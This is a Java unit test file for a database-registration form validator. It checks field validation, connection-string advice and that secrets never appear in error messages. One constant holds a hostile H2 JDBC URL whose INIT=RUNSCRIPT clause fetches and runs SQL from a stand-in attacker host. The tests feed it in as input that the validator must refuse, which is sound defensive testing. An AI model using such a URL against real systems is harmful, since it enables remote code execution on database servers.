package io.gazetteer.api.sources.registration.forms;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.gazetteer.api.testing.Credentials;
import io.gazetteer.api.web.input.Bodies;
import io.gazetteer.api.web.input.JsonFields;
import io.gazetteer.api.web.problems.Problem;
import io.gazetteer.api.web.problems.ProblemCode;
import io.gazetteer.common.source.DatabaseKind;
import io.gazetteer.common.source.TlsSettings;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class DataSourceFormTest {
  /** To be refused wherever it stands. */
  private static final String URL = "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'";

  static Stream<Arguments> wrongValues() {
    return Stream.of(
            wrong("hostname", "a b", "", 7, true, Map.of(), URL, "h2:mem"),
            wrong("port", 0, 65_536, -1, "5432", 5432.5, 5e99, true, 1L << 40, URL),
            wrong(
                "db_name",
                "",
                "a\nb",
                "a\0",
                "x".repeat(64),
                "é".repeat(32),
                7,
                "\ud800",
                URL,
                "H2:mem:x"),
            wrong("username", "", "a\tb", "x".repeat(129), 7, "\udfff", URL, "JDBC:x"),
            wrong("password", "x".repeat(8193), "********", "••••••", "●●●", "a\0b", 7, "\ud800"),
            wrong("db_type", "", "oracle9000", "postgres ", "h2", "H2", URL, "sqlite", 7))
        .flatMap(stream -> stream);
  }

  private static Stream<Arguments> wrong(String field, Object... values) {
    return Stream.of(values).map(value -> Arguments.of(field, value));
  }

  @ParameterizedTest
  @MethodSource("wrongValues")
  void namesTheWrongField(String field, Object value) {
    var body = Credentials.any();
    body.put(field, value);

    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @ParameterizedTest
  @ValueSource(strings = {"hostname", "db_name", "username", "db_type"})
  void namesAMissingFieldAndANull(String field) {
    var body = Credentials.any();
    body.put(field, null);
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);

    body.remove(field);
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc_url",
        "url",
        "driver",
        "properties",
        "id",
        "epoch",
        "role",
        "secret",
        "created_at",
        "Hostname",
        ""
      })
  void namesAnUnknownField(String field) {
    var body = Credentials.any();
    body.put(field, 1);

    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly(field);
  }

  @Test
  void asksForAPasswordAndTakesItsAbsenceWhenSaidSo() {
    var body = Credentials.any();
    body.remove("password");
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly("password");

    body.put("password", null);
    assertThat(Bodies.wrongFields(refused(Bodies.of(body)))).containsExactly("password");
    body.put("password", "");
    assertThat(DataSourceForm.newDataSource(Bodies.of(body)).password().reveal()).isEmpty();
    body.put("password", "t".repeat(8192));
    assertThat(DataSourceForm.newDataSource(Bodies.of(body)).password().reveal()).hasSize(8192);
  }

  @Test
  void anEmptyPasswordIsNoChange() {
    var fields = Bodies.of(Map.of("password", ""));

    var problem =
        catchThrowableOfType(
            Problem.class,
            () -> DataSourceForm.change(fields, DatabaseKind.POSTGRESQL, TlsSettings.DEFAULTS));

    assertThat(Bodies.text(problem)).contains("send null for an account without one");
  }

  @ParameterizedTest
  @CsvSource({"postgres,5432", "PostgreSQL,5432", "MySQL,3306", "mariadb,3306"})
  void knowsTheUsualPorts(String type, int port) {
    var body = Credentials.any();
    body.remove("port");
    body.put("db_type", type);
    body.put("hostname", " db.example.org ");

    var source = DataSourceForm.newDataSource(Bodies.of(body));

    assertThat(source.port()).isEqualTo(port);
    assertThat(source.hostname()).isEqualTo("db.example.org");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "db.example.org:5433|hostname \"db.example.org\", port 5433",
        "[::1]:5433|hostname \"::1\", port 5433",
        "http://db.example.org/x|hostname \"db.example.org\"",
        "jdbc:postgresql://db.example.org:5433/shop?user=Canary|"
            + "db_type \"PostgreSQL\", hostname \"db.example.org\", port 5433, db_name \"shop\"",
        "jdbc:mysql://db.example.org/shop|"
            + "db_type \"MySQL\", hostname \"db.example.org\", db_name \"shop\"",
        "postgres://reader:Can@ry@db.example.org/shop|"
            + "db_type \"PostgreSQL\", hostname \"db.example.org\", db_name \"shop\"",
        "postgresql://a.example:1,b.example:2/shop|several hosts",
        "jdbc:oracle:thin:@db.example.org:1521/x|cannot be registered",
        "host=db.example.org port=5433 dbname=shop user=reader password='Canary x'|"
            + "hostname \"db.example.org\", port 5433, db_name \"shop\"",
        "Server=db.example.org;Port=3307;Database=shop;Uid=reader;Pwd=Canary|"
            + "hostname \"db.example.org\", port 3307, db_name \"shop\"",
        "mysql -h db.example.org -P 3307 -u reader -pCanary -D shop|"
            + "hostname \"db.example.org\", port 3307, db_name \"shop\"",
        "psql -h db.example.org -p 5433 -U reader -d shop|"
            + "hostname \"db.example.org\", port 5433, db_name \"shop\""
      })
  void saysWhatToSendInPlaceOfAConnectionText(String text, String advice) {
    var body = Credentials.any();
    body.put("hostname", text);

    var told = Bodies.text(refused(Bodies.of(body)));

    assertThat(told.replace("\\\"", "\"")).contains(advice).doesNotContain("Can");
  }

  @ParameterizedTest
  @CsvSource({"host,hostname", "user,username", "Database,db_name", "type,db_type"})
  void namesTheFieldThatWasMeant(String field, String meant) {
    var body = Credentials.any();
    body.put(field, "x");

    assertThat(Bodies.text(refused(Bodies.of(body)))).contains("it is called " + meant);
  }

  @Test
  void saysNothingOfTheValue() {
    var body = Credentials.any();
    body.put("hostname", "Canary host");
    body.put("password", "Canary\0");

    assertThat(Bodies.text(refused(Bodies.of(body)))).doesNotContain("Canary");
  }

  @Test
  void takesOddButRightValues() {
    var body = Credentials.any();
    body.put("db_name", " my \"db\" 🛒 'x' ");
    body.put("username", "domain\\user name");
    body.put("password", "*** not a mask");
    body.put("db_type", "mArIaDb");

    var registration = DataSourceForm.newDataSource(Bodies.of(body));

    assertThat(registration.dbName()).isEqualTo(" my \"db\" 🛒 'x' ");
    assertThat(registration.username()).isEqualTo("domain\\user name");
    assertThat(registration.password().reveal()).isEqualTo("*** not a mask");
    assertThat(registration.kind()).isEqualTo(DatabaseKind.MARIADB);
    assertThat(registration.toString()).doesNotContain("not a mask");
  }

  @Test
  void letsMySqlNamesBe64Characters() {
    var body = Credentials.any();
    body.put("db_type", "MySQL");
    body.put("db_name", "é".repeat(64));

    assertThat(DataSourceForm.newDataSource(Bodies.of(body)).dbName()).hasSize(64);
  }

  @Test
  void takesAnySubsetAsAChange() {
    var change =
        DataSourceForm.change(
            Bodies.of(Map.of("port", 1)), DatabaseKind.POSTGRESQL, TlsSettings.DEFAULTS);

    assertThat(change)
        .isEqualTo(
            new DataSourceChange(
                null, 1, null, null, null, TlsSettings.DEFAULTS, CrawlOptionsChange.NONE));
  }

  @ParameterizedTest
  @ValueSource(strings = {"db_type", "id", "epoch", "crawl"})
  void refusesToChangeAnythingElse(String field) {
    var problem =
        catchThrowableOfType(
            Problem.class,
            () ->
                DataSourceForm.change(
                    Bodies.of(Map.of(field, "MySQL")),
                    DatabaseKind.POSTGRESQL,
                    TlsSettings.DEFAULTS));

    assertThat(Bodies.wrongFields(problem)).containsExactly(field);
  }

  private static Problem refused(JsonFields fields) {
    var problem = catchThrowableOfType(Problem.class, () -> DataSourceForm.newDataSource(fields));
    assertThat(problem.code()).isEqualTo(ProblemCode.VALIDATION_FAILED);
    return problem;
  }
}
